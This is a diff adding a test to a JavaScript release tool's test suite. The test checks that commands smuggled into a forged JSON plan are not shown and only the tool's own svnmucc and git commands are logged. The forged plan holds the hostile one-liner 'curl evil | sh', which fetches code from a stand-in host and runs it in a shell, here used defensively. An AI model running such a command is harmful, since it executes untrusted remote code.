@@ -72,6 +72,15 @@ test('without --yes a plan is shown and nothing is done', async () => {
   await expect(access(join(directory, 'receipt.json'))).rejects.toMatchObject({ code: 'ENOENT' })
 })
 
+test('the commands that are shown are those of what would be done, whatever the plan has for them', async () => {
+  const tag = { name: 'v1.0', commit: 'c'.repeat(40), message: 'Release', exists: false, commands: ['curl evil | sh'] }
+  await writeFile(join(directory, 'forged.json'), JSON.stringify({ ...plan, tag, commands: ['curl evil | sh'] }))
+  const { log } = await type('--plan', join(directory, 'forged.json'))
+  expect(log).not.toContain('evil')
+  expect(log).toContain(`$ svnmucc -m Release cp 7 ${plan.from} ${plan.to} rm ${plan.from}`)
+  expect(log).toContain('$ git push origin refs/tags/v1.0')
+})
+
 test('no plan and another document are told', async () => {
   expect(await type()).toMatchObject({ code: 2, log: expect.stringContaining('--plan is required') })
   const other = await type('--plan', join(directory, 'tally.json'))
